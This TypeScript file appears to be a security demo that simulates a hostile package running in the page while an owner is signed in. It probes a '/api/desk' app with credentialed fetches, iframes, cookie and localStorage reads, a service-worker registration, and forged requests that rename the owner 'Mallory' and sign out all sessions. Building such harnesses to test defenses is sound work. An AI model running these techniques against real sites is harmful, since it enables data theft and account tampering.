/** Simulates a hostile package in a demo while an owner is signed in. Runs in the page, after a click. */
export async function attackDesk() {
  const stolen: string[] = [];
  const record = (source: string, data: string | null | undefined) => {
    if (data) stolen.push(`${source}: ${data.slice(0, 80)}`);
  };
  const attempt = (work: () => unknown) =>
    Promise.race([
      Promise.resolve().then(work),
      new Promise((resolve) => setTimeout(resolve, 5_000)),
    ]).catch(() => {});
  const readPaths = ["session", "leads.csv", "orders", "settings"].map(
    (path) => `/api/desk/${path}`,
  );
  const renamePath = "/api/desk/owner/name";
  const body = JSON.stringify({ name: "Mallory" });
  const json = { "Content-Type": "application/json" };

  const popup = window.open("/desk");
  for (const path of readPaths) {
    await attempt(async () => {
      const response = await fetch(path, { credentials: "include", referrer: "/desk" });
      if (response.ok) record(`fetch ${path}`, await response.text());
    });
    await attempt(() =>
      fetch(path, { mode: "no-cors" })
        .then((response) => response.text())
        .then((text) => record("no-cors", text)),
    );
    await attempt(
      () =>
        new Promise<void>((resolve) => {
          const request = new XMLHttpRequest();
          request.onloadend = () => {
            if (request.status === 200) record("XMLHttpRequest", request.responseText);
            resolve();
          };
          request.open("GET", path);
          request.send();
        }),
    );
    await attempt(() => import(path));
  }
  for (const path of ["/desk", ...readPaths]) {
    await attempt(
      () =>
        new Promise<void>((resolve) => {
          const frame = document.createElement("iframe");
          frame.onload = () => {
            record(`frame ${path}`, frame.contentDocument?.body?.textContent);
            resolve();
          };
          frame.src = path;
          document.body.append(frame);
        }),
    );
  }
  await attempt(() => fetch(renamePath, { method: "POST", headers: json, body }));
  await attempt(() =>
    fetch("/api/desk/sessions/sign-out-all", { method: "POST", headers: json, body: "{}" }),
  );
  await attempt(() =>
    navigator.sendBeacon(renamePath, new Blob([body], { type: "application/json" })),
  );
  await attempt(() => {
    const form = document.createElement("form");
    Object.assign(form, {
      method: "post",
      action: renamePath,
      target: "_blank",
      enctype: "text/plain",
    });
    const field = document.createElement("input");
    Object.assign(field, { name: '{"name":"Mallory","x":"', value: '"}' });
    form.append(field);
    document.body.append(form);
    form.submit();
  });
  await attempt(() => record("cookie", document.cookie));
  await attempt(() => record("storage", JSON.stringify({ ...localStorage, at: "storage" })));
  await attempt(async () => {
    const script = [...document.scripts].find(({ src }) => src)?.src ?? "";
    const worker = await navigator.serviceWorker.register(script);
    record("service worker", worker.scope);
  });
  for (const [name, other] of Object.entries({
    popup,
    parent: window === parent ? null : parent,
    opener,
  }))
    await attempt(async () => {
      await new Promise((resolve) => setTimeout(resolve, 1_500));
      record(name, other?.document?.body?.textContent);
    });
  await attempt(() => {
    popup?.close();
  });
  return stolen;
}
